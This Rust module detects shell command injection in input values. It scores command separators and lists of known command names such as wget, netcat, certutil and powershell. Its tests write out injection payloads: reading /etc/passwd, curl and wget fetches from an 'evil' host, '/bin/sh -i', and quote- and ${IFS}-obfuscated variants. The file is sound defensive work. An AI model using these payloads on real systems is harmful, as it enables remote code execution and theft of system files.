//! Shell commands behind a separator: `;id`, `|cat /etc/passwd`, `$(curl …)`, and with the quotes, backslashes and
//! `${IFS}` that hide a command's name from a search for words. Many commands are words of prose, so that those count
//! only with an argument that looks like one, or nothing behind them.

/// A command found in a value.
#[derive(Clone, Copy, Debug, PartialEq)]
pub(crate) struct Found {
    pub(crate) start: usize,
    pub(crate) end: usize,
    pub(crate) confidence: f32,
}

/// Most confidence of a command at the beginning of a line of text.
const IN_TEXT: f32 = 0.4;

/// Longest command name with its path and the characters that hide it.
const MAX_NAME: usize = 64;

/// Names that are hardly words of a sentence.
const TELLING: &[&str] = &[
    "whoami",
    "uname",
    "wget",
    "curl",
    "ifconfig",
    "nslookup",
    "netstat",
    "ipconfig",
    "tasklist",
    "systeminfo",
    "ncat",
    "netcat",
    "printenv",
    "tftp",
    "lwp-download",
    "lwp-request",
    "certutil",
    "bitsadmin",
    "powershell",
    "pwsh",
    "mkfifo",
    "busybox",
    "chmod",
    "chown",
    "traceroute",
    "tracert",
    "lsof",
    "crontab",
    "phpinfo",
    "gcc",
    "base64",
    "useradd",
    "adduser",
    "passwd",
    "hostname",
    "bash",
    "zsh",
    "ksh",
    "tcsh",
    "csh",
    "python2",
    "python3",
    "perl",
    "nmap",
    "arp",
    "telnet",
    "sudo",
    "xterm",
    "regsvr32",
    "mshta",
    "wscript",
    "cscript",
    "rundll32",
    "wmic",
    "schtasks",
    "usermod",
    "dpkg",
    "rpm",
    "awk",
    "gawk",
    "sed",
    "grep",
    "egrep",
    "xxd",
    "tcpdump",
    "apt",
    "apt-get",
    "aptitude",
    "yum",
    "dnf",
    "pip",
    "pip3",
    "npm",
    "systemctl",
    "journalctl",
    "iptables",
    "gdb",
    "strace",
    "openssl",
    "rsync",
    "tmux",
    "vim",
    "mysql",
    "mysqldump",
    "psql",
    "sqlite3",
    "redis-cli",
    "kubectl",
    "gcloud",
    "ansible",
    "ansible-console",
    "rmt",
    "rmt-tar",
    "aa-exec",
    "capsh",
    "cpio",
    "ionice",
    "setarch",
    "stdbuf",
    "taskset",
    "unshare",
    "nsenter",
    "jjs",
    "jrunscript",
    "iconv",
    "hexdump",
    "dmesg",
    "lscpu",
    "lsblk",
    "pkill",
    "killall",
    "rbash",
    "tclsh",
    "luajit",
    "mawk",
    "nawk",
    "unalias",
    "shopt",
    "ulimit",
    "umask",
];
/// Names that are also words.
const WORDS: &[&str] = &[
    "cat", "ls", "id", "dir", "ping", "sleep", "echo", "nc", "sh", "dash", "rm", "cp", "mv", "ps", "pwd",
    "who", "w", "env", "set", "cmd", "cmd.exe", "net", "type", "find", "head", "tail", "more", "less", "tac",
    "nl", "od", "sort", "cut", "tee", "touch", "kill", "date", "php", "ruby", "python", "node", "lua",
    "java", "make", "ftp", "ssh", "scp", "dig", "host", "ip", "df", "du", "mount", "printf", "exec", "eval",
    "source", "export", "del", "copy", "start", "ver", "time", "history", "finger", "id;", "expr", "test",
    "reg", "vol", "wc", "rev", "uniq", "strings", "xargs", "tar", "zip", "unzip", "timeout", "dd", "route",
    "nohup", "socat", "ln", "mkdir", "rmdir", "diff", "stat", "file", "whereis", "service", "script",
    "expect", "watch", "nice", "fold", "column", "screen", "last", "free", "top", "at", "fish", "go", "git",
    "docker", "alias", "trap", "ed", "vi", "groups", "uptime", "cd", "which",
];

/// The strongest sign of a command in `value`.
pub(crate) fn find(value: &[u8]) -> Option<Found> {
    let mut best: Option<Found> = None;
    let lines = memchr::memchr_iter(b'\n', value).nth(1).is_some();
    if let Some(found) = leading(value) {
        best = Some(found);
    }
    for at in 0..value.len() {
        let Some((skip, sure)) = separator(value.get(at..).unwrap_or_default()) else { continue };
        let Some((end, confidence)) = command(value, at + skip, sure) else { continue };
        let confidence =
            if lines && value.get(at) == Some(&b'\n') { confidence.min(IN_TEXT) } else { confidence };
        if best.is_none_or(|best| confidence > best.confidence) {
            best = Some(Found { start: at, end, confidence });
        }
    }
    best
}

/// A command that is the whole value: only with an option or path behind it.
fn leading(value: &[u8]) -> Option<Found> {
    let blank = memchr::memchr(b' ', value)?;
    let argument = value.get(blank + 1..)?.trim_ascii_start();
    let told = matches!(argument, [b'-', letter, ..] | [b'-', b'-', letter, ..] if letter.is_ascii_alphabetic())
        || matches!(argument, [b'/' | b'~' | b'$' | b'>', next, ..] if *next > b' ');
    let (end, confidence) = command(value, 0, false).filter(|_| told && value.len() < MAX_COMMAND)?;
    Some(Found { start: 0, end, confidence: confidence.min(LEADING) })
}

/// Longest value that is taken for a command as a whole.
const MAX_COMMAND: usize = 256;
/// Most confidence of a command without a separator in front of it.
const LEADING: f32 = 0.72;

/// Length of the separator that begins `rest`, and whether it hardly stands in prose.
fn separator(rest: &[u8]) -> Option<(usize, bool)> {
    match rest {
        [b'$', b'(', b'(', ..] => None,
        [b'$' | b'<' | b'>', b'(', ..] => Some((2, true)),
        [b'|', b'|', ..] | [b'&', b'&', ..] => Some((2, true)),
        [b'`' | b'|', ..] => Some((1, true)),
        [b';' | b'&' | b'\n', ..] => Some((1, false)),
        _ => None,
    }
}

/// The command at `at`: where it ends, and how sure it is one.
fn command(value: &[u8], at: usize, sure: bool) -> Option<(usize, f32)> {
    let rest = value.get(at..)?;
    let lead = rest
        .iter()
        .take(8)
        .take_while(|byte| matches!(byte, b' ' | b'\t' | b'{' | b'(' | b'\r' | b'\n' | b'@'))
        .count();
    let braced = rest.iter().take(lead).any(|&byte| byte == b'{');
    let mut name = [0_u8; MAX_NAME];
    let mut len = 0;
    let mut hidden = false;
    let mut globbed = false;
    let mut at = at + lead;
    while let Some(&byte) = value.get(at) {
        match byte {
            b'\'' | b'"' | b'\\' | b'^' => hidden = true,
            b'$' if value.get(at + 1).is_some_and(|next| matches!(next, b'@' | b'*' | b'1'..=b'9')) => {
                hidden = true;
                at += 1;
            }
            b'a'..=b'z'
            | b'A'..=b'Z'
            | b'0'..=b'9'
            | b'/'
            | b'.'
            | b'-'
            | b'_'
            | b'?'
            | b'*'
            | b'['
            | b']' => {
                *name.get_mut(len)? = byte.to_ascii_lowercase();
                len += 1;
                globbed |= byte == b'?' || byte == b'*';
            }
            _ => break,
        }
        at += 1;
    }
    let name = name.get(..len)?;
    let file = memchr::memrchr(b'/', name).map_or(name, |slash| name.get(slash + 1..).unwrap_or_default());
    let pathed = file.len() < name.len()
        && (name.starts_with(b"/bin")
            || name.starts_with(b"/usr")
            || name.starts_with(b"./")
            || name.starts_with(b"/sbin"));
    let known = |list: &[&str]| list.iter().any(|word| word.as_bytes() == file);
    let (telling, word) = (known(TELLING), known(WORDS));
    if globbed && name.starts_with(b"/") && len > 4 {
        return Some((at, 0.8));
    }
    if !telling && !word {
        return None;
    }
    confidence(value.get(at..)?, telling, sure || braced, pathed || hidden).map(|confidence| (at, confidence))
}

/// How sure a known name is a command, by what stands behind it.
fn confidence(behind: &[u8], telling: bool, sure: bool, dressed: bool) -> Option<f32> {
    let argument = match behind {
        [] => true,
        [b' ' | b'\t' | b'+', tail @ ..] => looks_like_argument(tail.trim_ascii_start()),
        [
            b'$' | b';' | b'|' | b'&' | b'<' | b'>' | b'`' | b')' | b'\n' | b'\r' | b',' | b'#' | b'%'
            | b'\'' | b'"' | b'}',
            ..,
        ] => true,
        [b'=' | b':' | b'(', ..] => return None,
        _ => false,
    };
    let bare = behind.is_empty() || behind.starts_with(b" ") && behind.trim_ascii().is_empty();
    Some(match (telling, dressed, argument, sure) {
        (_, true, true, _) => 0.9,
        (true, _, true, _) => 0.88,
        (true, _, false, true) => 0.75,
        (true, _, false, false) => 0.5,
        (false, _, true, true) if bare => 0.75,
        (false, _, true, true) => 0.8,
        (false, _, true, false) if bare => 0.7,
        (false, _, true, false) => 0.72,
        (_, true, false, _) => 0.7,
        _ => 0.3,
    })
}

/// Options, paths, numbers, redirections, addresses, variables.
fn looks_like_argument(text: &[u8]) -> bool {
    let word = text.split(|byte| *byte <= b' ').next().unwrap_or_default();
    match word {
        [] => true,
        [b'-', letter, ..] => letter.is_ascii_alphanumeric() || *letter == b'-',
        [b'/' | b'$' | b'>' | b'<' | b'|' | b'~' | b'*' | b';' | b'&' | b'\'' | b'"' | b'.' | b'%', ..] => {
            true
        }
        [b'0'..=b'9', ..] => true,
        _ => {
            let path = word.contains(&b'/') || memchr::memmem::find(word, b"..").is_some();
            path || word.contains(&b':') && word.len() > 2 && !word.ends_with(b":")
                || word.contains(&b'.') && !word.ends_with(b".") && word.len() > 4
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn confidence(value: &str) -> f32 {
        find(value.as_bytes()).map_or(0.0, |found| found.confidence)
    }

    #[test]
    fn commands() {
        for value in [
            "127.0.0.1; cat /etc/passwd",
            "x|id",
            "x;id",
            "$(curl http://evil/x)",
            "`whoami`",
            "a && wget http://evil/x",
            ";c''at${IFS}/e?c/p*d",
            ";{cat,/etc/passwd}",
            "\nid",
            "| /bin/sh -i",
            "a;c\\at /etc/hosts",
            "x & ping -c 5 10.0.0.1",
            "|| sleep 5",
            ";/???/c?t /etc/x",
        ] {
            assert!(confidence(value) >= 0.7, "{value}: {}", confidence(value));
        }
    }

    #[test]
    fn prose_and_code() {
        for value in [
            "Tom & Jerry; find the cat",
            "you & who else",
            "red; sort of blue | more or less",
            "a=1&id=5&type=x",
            "http://x/?a=b&id=7",
            "cats; dogs",
            "$5 (five) `quoted`",
            "AT&T; date night",
            "&lt;b&gt;",
        ] {
            assert!(confidence(value) < 0.5, "{value}: {:?}", find(value.as_bytes()));
        }
    }

    #[test]
    fn any_bytes_end() {
        let bytes: Vec<u8> = (0..=255).cycle().take(4096).collect();
        find(&bytes);
        find(";".repeat(50_000).as_bytes());
        find(";$@".repeat(20_000).as_bytes());
    }
}
